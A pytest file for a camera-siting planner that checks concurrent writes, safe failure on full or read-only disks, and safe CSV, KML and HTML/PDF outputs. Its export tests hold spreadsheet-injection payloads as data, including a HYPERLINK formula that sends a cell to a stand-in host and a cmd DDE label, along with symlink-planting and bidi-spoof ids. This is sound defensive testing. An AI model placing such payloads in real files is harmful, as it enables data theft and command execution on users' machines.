"""Hostile round two: concurrent writers, outputs that fail safe, exports, reports.

Each test drives the real command (``planner.cli.main``, in forked processes for
the concurrent writers) or the real window, and checks the contract: nothing a
writer recorded is lost, a failed write leaves the old file and says so in one
``error:`` line with exit 2, and what leaves the planner (CSV, KML, reports) is
well-formed and cannot pass for something else.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import multiprocessing
import os
import shutil
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from planner.cli import main
from planner.core.model import Camera, CameraStatus
from tests import app_support
from tests.signing_support import signer_args

app_env = app_support.app_env
window = app_support.window

LON, LAT = -121.8900, 37.3300


def run(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue(), err.getvalue()


def one_error_line(code: int, err: str, file: str | Path | None = None) -> str:
    assert code == 2, err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "internal error" not in err and "Traceback" not in err
    if file is not None:
        assert str(file) in lines[0], err
    return lines[0]


def errors(win: Any) -> list[str]:
    """What the window showed in error dialogs (``"title: text"``)."""
    return [text for kind, text in win.prompter.asked if kind == "error"]


def feature(cid: str, lon: float, lat: float, **extra: Any) -> dict[str, Any]:
    props = {"heading_deg": 90.0, "fov_deg": 40, "range_m": 60, "status": "proposed"}
    props.update(extra.pop("properties", {}))
    return {
        "type": "Feature",
        "id": cid,
        "geometry": {"type": "Point", "coordinates": [lon, lat]},
        "properties": props,
        **extra,
    }


def plan_doc(features: list[dict[str, Any]], **meta: Any) -> dict[str, Any]:
    return {
        "type": "FeatureCollection",
        "siting_plan": {"format": "siting-plan", "format_version": 1, "name": "t", **meta},
        "features": features,
    }


def write_doc(path: Path, doc: Any) -> Path:
    path.write_text(json.dumps(doc, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def sites(tmp_path: Path) -> Path:
    """A church far from every camera: every camera is clear."""
    far = {
        "type": "Feature",
        "properties": {"id": "w", "category": "place_of_worship", "name": "Far Church"},
        "geometry": {"type": "Point", "coordinates": [LON + 0.05, LAT + 0.05]},
    }
    return write_doc(tmp_path / "sites.geojson", {"type": "FeatureCollection", "features": [far]})


def cameras(n: int) -> list[dict[str, Any]]:
    return [feature(f"C-{i}", LON + i * 0.0004, LAT) for i in range(n)]


# ------------------------------------------------------------- 1. concurrent writers


def _decide(plan: str, sites: str, i: int, go: Any, results: Any, sign: list[str]) -> None:
    go.wait()
    sink = io.StringIO()
    with contextlib.redirect_stdout(sink), contextlib.redirect_stderr(sink):
        code = main(["review", plan, "--sites", sites, *sign, "--decide", f"C-{i}=reject"])
    results.put((i, code, sink.getvalue()[-300:]))


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="fork: the writers start at one instant")
def test_twenty_concurrent_decides_all_keep_their_decision(
    tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, sites: Path
) -> None:
    n = 20
    plan = write_doc(tmp_path / "p.plan.geojson", plan_doc(cameras(n)))
    ctx = multiprocessing.get_context("fork")
    go, results = ctx.Event(), ctx.Queue()
    # one reviewer key, made before the fork, outside the folder the test lists (pytest
    # removes its own temporary folders; a mkdtemp here was left in /tmp on every run)
    sign = signer_args(tmp_path_factory.mktemp("reviewer"))
    procs = [
        ctx.Process(target=_decide, args=(str(plan), str(sites), i, go, results, sign))
        for i in range(n)
    ]
    for p in procs:
        p.start()
    go.set()
    answers = [results.get(timeout=120) for _ in range(n)]
    for p in procs:
        p.join(30)
    assert all(code == 0 for _, code, _ in answers), answers
    doc = json.loads(plan.read_text(encoding="utf-8"))
    decided = sorted(d["camera_id"] for d in doc["siting_plan"]["review"]["decisions"])
    assert decided == sorted(f"C-{i}" for i in range(n))
    assert len(doc["siting_plan"]["review"]["sessions"]) == n
    assert len([a for a in doc["siting_plan"]["audit"] if a["action"] == "review"]) == n
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.plan.geojson", "sites.geojson"]


def test_main_window_save_keeps_a_decision_recorded_meanwhile(
    qtbot: Any, app_env: Path, tmp_path: Path, sites: Path
) -> None:
    from tests.app_support import make_data, make_plan, new_window

    win = new_window(qtbot)
    try:
        win.install_data(make_data(win.policy))
        win.doc.load_plan(make_plan(), None)
        path = tmp_path / "w.plan.geojson"
        assert win.save_to(path)
        # the DPO records a decision on disk while the planner keeps editing
        code, _, err = run(
            "review", str(path), "--sites", str(sites), *signer_args(tmp_path),
            "--decide", "C-1=needs_changes:move it",
        )  # fmt: skip
        assert code == 0, err
        assert win.doc.set_properties(name="renamed", author="a", department="d")
        assert win.save_to(path)
        doc = json.loads(path.read_text(encoding="utf-8"))
        assert doc["siting_plan"]["name"] == "renamed"
        assert [d["camera_id"] for d in doc["siting_plan"]["review"]["decisions"]] == ["C-1"]
        assert any(a["action"] == "review" for a in doc["siting_plan"]["audit"])
        assert "changed on disk" in win.notice.text()
    finally:
        win.doc.undo_stack.setClean()
        win.close()


def test_main_window_refuses_to_save_over_a_file_that_is_no_longer_a_plan(
    qtbot: Any, app_env: Path, tmp_path: Path
) -> None:
    from tests.app_support import make_data, make_plan, new_window

    win = new_window(qtbot)
    try:
        win.install_data(make_data(win.policy))
        win.doc.load_plan(make_plan(), None)
        path = tmp_path / "w.plan.geojson"
        assert win.save_to(path)
        path.write_text("someone else's notes", encoding="utf-8")
        assert not win.save_to(path)
        assert path.read_text(encoding="utf-8") == "someone else's notes"
        text = errors(win)[-1]
        assert text.startswith("Cannot save: ") and "Save As" in text
    finally:
        win.doc.undo_stack.setClean()
        win.close()


# --------------------------------------------------------- 2, 3. outputs fail safe


def _report_args(plan: Path, sites: Path, out: Path) -> list[str]:
    return ["report", str(plan), "--sites", str(sites), "-o", str(out), "-q"]


@pytest.fixture
def small_plan(tmp_path: Path) -> Path:
    return write_doc(tmp_path / "s.plan.geojson", plan_doc(cameras(2)))


def test_report_on_a_full_disk_keeps_the_old_report(
    tmp_path: Path, small_plan: Path, sites: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "r.pdf"
    out.write_bytes(b"%PDF-1.4 the good old report\n%%EOF\n")
    old = out.read_bytes()
    real_fsync = os.fsync

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    code, out_text, err = run(*_report_args(small_plan, sites, out))
    monkeypatch.setattr(os, "fsync", real_fsync)
    line = one_error_line(code, err, out)
    assert "No space left on device" in line and "left as it was" in line
    assert "wrote" not in out_text
    assert out.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".r.pdf")) == []


@pytest.mark.parametrize("suffix", [".pdf", ".html"])
def test_report_into_a_folder_it_cannot_write(
    tmp_path: Path,
    small_plan: Path,
    sites: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
    suffix: str,
) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    real_open = os.open

    def read_only(path: Any, flags: int, *a: Any, **k: Any) -> int:
        # root ignores folder modes: refuse creation in the folder as a read-only mount would
        if flags & os.O_CREAT and Path(path).parent == folder:
            raise PermissionError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, flags, *a, **k)

    monkeypatch.setattr(os, "open", read_only)
    out = folder / f"r{suffix}"
    code, _, err = run(*_report_args(small_plan, sites, out))
    line = one_error_line(code, err, out)
    assert "Read-only file system" in line
    assert "QPainter" not in capfd.readouterr().err
    assert not out.exists()


def test_report_with_a_name_near_255_bytes(tmp_path: Path, small_plan: Path, sites: Path) -> None:
    out = tmp_path / ("r" * 246 + ".html")  # 251 bytes: the temporary must still fit
    code, _, err = run(*_report_args(small_plan, sites, out))
    assert code == 0, err
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("length", [240, 253])
def test_import_with_a_name_near_255_bytes(tmp_path: Path, sites: Path, length: int) -> None:
    out = tmp_path / ("p" * (length - 5) + ".gpkg")
    code, _, err = run("import", "--sites", str(sites), "-o", str(out), "-q")
    if length == 240:  # the temporary and its SQLite journal fit beside it
        assert code == 0, err
        assert out.read_bytes().startswith(b"SQLite format 3\x00")
    else:  # the pack's own journal would not fit: said in one short line
        assert code == 0 or len(one_error_line(code, err, out)) < 600, err
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_import_into_a_folder_it_cannot_write(
    tmp_path: Path, sites: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    real_open = os.open

    def read_only(path: Any, flags: int, *a: Any, **k: Any) -> int:
        if flags & os.O_CREAT and Path(path).parent == folder:
            raise PermissionError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, flags, *a, **k)

    monkeypatch.setattr(os, "open", read_only)
    out = folder / "p.gpkg"
    code, _, err = run("import", "--sites", str(sites), "-o", str(out), "-q")
    one_error_line(code, err, out)
    assert not out.exists()


def test_a_planted_link_never_receives_an_output(
    tmp_path: Path, small_plan: Path, sites: Path
) -> None:
    """Old temporaries had guessable names: a link planted there redirected the write."""
    from planner.io.formats.exchange import write_plan_csv, write_plan_kml

    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    for name in (".p.csv.tmp", ".p.kml.tmp", f".r.pdf.{os.getpid()}.tmp"):
        (tmp_path / name).symlink_to(victim)
    cams = [Camera(id="C-1", lon=LON, lat=LAT, heading_deg=0.0, fov_deg=40.0, range_m=50.0)]
    write_plan_csv(tmp_path / "p.csv", cams)
    write_plan_kml(tmp_path / "p.kml", cams)
    code, _, err = run(*_report_args(small_plan, sites, tmp_path / "r.pdf"))
    assert code == 0, err
    assert victim.read_text(encoding="utf-8") == "precious"
    assert (tmp_path / "p.csv").read_text(encoding="utf-8").startswith("id,")


def test_report_temporaries_left_by_a_kill_are_removed(
    tmp_path: Path, small_plan: Path, sites: Path
) -> None:
    stale = tmp_path / ".r.html.0123456789abcdef.tmp"
    stale.write_text("half a report", encoding="utf-8")
    os.utime(stale, (time.time() - 3600, time.time() - 3600))
    code, _, err = run(*_report_args(small_plan, sites, tmp_path / "r.html"))
    assert code == 0, err
    assert not stale.exists()


def test_export_view_on_a_full_disk_keeps_the_old_file(
    window: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from planner.app.tools.export import export_view

    out = tmp_path / "map.pdf"
    out.write_bytes(b"old")

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(ValueError, match="No space left"):
        export_view(window.canvas, out, title="t")
    monkeypatch.undo()
    assert out.read_bytes() == b"old"
    export_view(window.canvas, out, title="t")
    assert out.read_bytes().startswith(b"%PDF-")


# ----------------------------------------------------- 4. decide keeps what it does not own


def test_decide_keeps_foreign_members_third_coordinate_and_every_digit(
    tmp_path: Path, sites: Path
) -> None:
    feats = [
        feature("C-0", -121.890000123456789, 37.330000987654321, bbox=[1, 2, 3, 4], owner="x"),
        feature("C-1", LON + 0.001, LAT, properties={"asset": {"tag": [1, 2.5]}}),
    ]
    feats[0]["geometry"]["coordinates"].append(12.5)  # a height
    doc = plan_doc(feats, dept_field={"keep": True})
    doc["crs_note"] = "foreign top-level member"
    path = write_doc(tmp_path / "f.plan.geojson", doc)
    before = json.loads(path.read_text(encoding="utf-8"))
    code, _, err = run(
        "review",
        str(path),
        "--sites",
        str(sites),
        *signer_args(tmp_path),
        "--decide",
        "C-0=approve",
    )
    assert code == 0, err
    after = json.loads(path.read_text(encoding="utf-8"))
    assert after["siting_plan"].pop("review")["decisions"][0]["camera_id"] == "C-0"
    assert [a["action"] for a in after["siting_plan"].pop("audit")] == ["review"]
    assert after == before  # everything else, every digit, every member
    # written as the planner writes plans: the cameras' bytes are the file's bytes
    assert json.dumps(before["features"], indent=1) in json.dumps(after["features"], indent=1)


# ------------------------------------------------------- 7. pack links and huge fields


@pytest.mark.parametrize(
    "link", ["pack\x00.gpkg", "a" * 6000, {"path": "x\x00y"}, {"path": "b" * 6000}]
)
@pytest.mark.parametrize("with_data", [False, True])
def test_pack_link_with_a_nul_or_6000_characters(
    tmp_path: Path, sites: Path, link: Any, with_data: bool
) -> None:
    plan = write_doc(tmp_path / "l.plan.geojson", plan_doc(cameras(1), data_pack=link))
    extra = ["--sites", str(sites)] if with_data else []
    code, _, err = run("check", str(plan), *extra)
    line = one_error_line(code, err, plan)
    assert "data_pack" in line


def test_app_start_with_a_nul_pack_link_says_so(qtbot: Any, app_env: Path, tmp_path: Path) -> None:
    from tests.app_support import new_window

    plan = write_doc(tmp_path / "l.plan.geojson", plan_doc(cameras(1), data_pack="p\x00.gpkg"))
    win = new_window(qtbot)
    try:
        win.load(plan_path=plan, pack=None, wait=True)
        assert any("NUL" in text for text in errors(win))
    finally:
        win.close()


@pytest.mark.parametrize(
    "where",
    ["label", "name", "id", "audit", "notes"],
)
def test_two_million_characters_in_one_field_is_refused_in_one_line(
    tmp_path: Path, sites: Path, where: str
) -> None:
    big = "W" * 2_000_000
    feats = cameras(1)
    meta: dict[str, Any] = {}
    if where in ("label", "notes"):
        feats[0]["properties"][where] = big
    elif where == "id":
        feats[0]["id"] = big
    elif where == "name":
        meta["name"] = big
    else:
        meta["audit"] = [{"when": "2026-01-01T00:00:00Z", "who": "a", "action": "x",
                          "detail": big}]  # fmt: skip
    plan = write_doc(tmp_path / "big.plan.geojson", plan_doc(feats, **meta))
    code, _, err = run(*_report_args(plan, sites, tmp_path / "r.pdf"))
    line = one_error_line(code, err, plan)
    assert "characters long" in line and len(line) < 400
    assert not (tmp_path / "r.pdf").exists()


def test_report_cuts_a_huge_review_comment_with_a_mark(tmp_path: Path) -> None:
    from planner.report.html import MAX_SHOWN_CHARS, e

    text = e("x" * 300_000)
    assert len(text) < MAX_SHOWN_CHARS + 100
    assert "298,000 more characters not shown" in text


# ------------------------------------------------------------- 8. CSV camera import


def _table(tmp_path: Path, text: str) -> Any:
    from planner.io.formats.exchange import read_csv_table

    path = tmp_path / "cams.csv"
    path.write_text(text, encoding="utf-8", newline="")
    return read_csv_table(path)


@pytest.mark.parametrize(
    ("text", "row", "what"),
    [
        ("id,lon,lat\nC-1,-121.89,37.33\nC-2," + "x" * 140_000 + ",37\n", 3, "128 KiB"),
        ('id,lon,lat\nC-1,-121.89,37.33\nC-2,"-121.8,37.33\nC-3,1,2\n', 3, "never closed"),
    ],
    ids=["huge-cell", "open-quote"],
)
def test_csv_import_names_the_file_and_row(tmp_path: Path, text: str, row: int, what: str) -> None:
    with pytest.raises(ValueError, match=f"cams.csv: row {row}: .*{what}"):
        _table(tmp_path, text)


def test_csv_import_error_reaches_the_user_through_the_menu(window: Any, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text('id,lon,lat\nC-1,"-121.8,37\n', encoding="utf-8")
    window.prompter.next_open = bad
    window.gis.import_csv_dialog()
    text = errors(window)[-1]
    assert text.startswith("Import cameras: ") and "bad.csv: row 2" in text


@pytest.mark.parametrize("lon", ["1_2_1", "-1_21.89", "１２１", "infinity", "0x10", " "])
def test_csv_numbers_are_plain_decimals(tmp_path: Path, lon: str) -> None:
    from planner.io.formats.exchange import read_camera_csv

    table = _table(tmp_path, f"id,lon,lat,fov,range\nC-1,{lon},37.33,40,50\n")
    result = read_camera_csv(table, {"id": "id", "lon": "lon", "lat": "lat",
                                     "fov_deg": "fov", "range_m": "range"})  # fmt: skip
    assert not result.cameras
    assert result.errors[0][0] == 2 and "lon" in result.errors[0][1]


# ---------------------------------------------------------- 9. CSV and KML export


HOSTILE_IDS = [
    '=HYPERLINK("http://x.example/?"&A2,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "'=quoted",
    'C-"1"<&>]]>',
    "block\rfake,row,0,0",
]


def test_csv_export_is_inert_in_a_spreadsheet_and_reads_back(tmp_path: Path) -> None:
    from planner.io.formats.exchange import read_camera_csv, read_csv_table, write_plan_csv

    cams = [
        Camera(id=cid, lon=LON + i * 1e-4, lat=LAT, heading_deg=90.0, fov_deg=40.0,
               range_m=50.0, label=f"=cmd|' /C calc'!A{i}\r", status=CameraStatus.PROPOSED)
        for i, cid in enumerate(HOSTILE_IDS)
    ]  # fmt: skip
    out = tmp_path / "x.csv"
    write_plan_csv(out, cams)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(cams)  # a CR never splits a row
    for row in rows[1:]:
        for cell in (row[0], row[7]):  # id, label
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    table = read_csv_table(out)
    back = read_camera_csv(
        table,
        {"id": "id", "lon": "lon", "lat": "lat", "heading_deg": "heading_deg",
         "fov_deg": "fov_deg", "range_m": "range_m", "status": "status", "label": "label"},
    )  # fmt: skip
    assert not back.errors
    # the import trims blanks round an id, as it does for every inventory
    assert [c.id for c in back.cameras] == [cid.strip() for cid in HOSTILE_IDS]
    assert {c.label for c in back.cameras} == {c.label.strip() for c in cams}
    assert [(c.lon, c.lat) for c in back.cameras] == [(c.lon, c.lat) for c in cams]


def test_kml_export_is_well_formed_whatever_the_ids(tmp_path: Path) -> None:
    from planner.io.formats.exchange import write_plan_kml

    cams = [
        Camera(id=cid, lon=LON + i * 1e-4, lat=LAT, heading_deg=90.0, fov_deg=40.0,
               range_m=50.0, label=cid + "\x01")
        for i, cid in enumerate(HOSTILE_IDS)
    ]  # fmt: skip
    out = tmp_path / "x.kml"
    write_plan_kml(out, cams, name='plan "<x>"')
    root = ET.parse(out).getroot()  # raises on malformed XML
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    ids = [
        d.find("k:value", ns).text
        for d in root.iterfind(".//k:Data[@name='id']", ns)  # type: ignore[union-attr]
    ]
    assert ids == [cid.replace("\r", "\n") for cid in HOSTILE_IDS]  # XML reads CR as LF
    assert len(root.findall(".//k:Placemark", ns)) == 2 * len(cams)


# -------------------------------------------------------- 10. ids as the text report


def test_report_shows_a_bidi_id_escaped_like_the_text_report(tmp_path: Path, sites: Path) -> None:
    from planner.core.printable import printable

    spoof = "C-\u202e21-C"
    plan = write_doc(
        tmp_path / "b.plan.geojson",
        plan_doc([feature("C-12", LON, LAT), feature(spoof, LON + 0.001, LAT)]),
    )
    out = tmp_path / "r.html"
    code, _, err = run(*_report_args(plan, sites, out))
    assert code == 0, err
    html = out.read_text(encoding="utf-8")
    assert "\u202e" not in html
    assert printable(spoof) in html  # C-\u202e21-C, as `check` prints it
    code, text, _ = run("check", str(plan), "--sites", str(sites))
    assert printable(spoof) in text
    # the PDF too, read back by another tool
    pdf = tmp_path / "r.pdf"
    code, _, err = run(*_report_args(plan, sites, pdf))
    assert code == 0, err
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    words = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "\u202e" not in words
    assert f"Camera {printable(spoof)}" in words and "Camera C-12" in words
